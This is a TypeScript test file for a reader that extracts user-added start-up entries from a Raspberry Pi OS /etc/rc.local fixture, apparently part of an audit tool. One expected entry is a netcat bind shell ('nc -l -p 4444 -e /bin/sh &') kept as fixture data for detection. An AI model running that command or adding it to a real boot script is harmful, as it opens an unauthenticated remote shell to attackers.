import assert from 'node:assert/strict'
import { test } from 'node:test'
import { collectFixture, factsOf, survivesOddInputs } from '../../../../test/support/fixture.ts'
import { reader } from './reader.ts'

test('only what somebody added', async () => {
  const found = factsOf(await collectFixture(reader, import.meta.url, 'raspberry-pi-os/etc/rc.local'), 'start-entry')
  assert.deepEqual(found.map(({ line, by, command }) => [line, by, command.replace(/\s+/g, ' ')]), [
    [11, 'rc', '/opt/app/start.sh --password=*** &'], [12, 'rc', 'nc -l -p 4444 -e /bin/sh &'],
  ])
})

test('odd inputs', () => survivesOddInputs(reader, ['/etc/rc.local']))
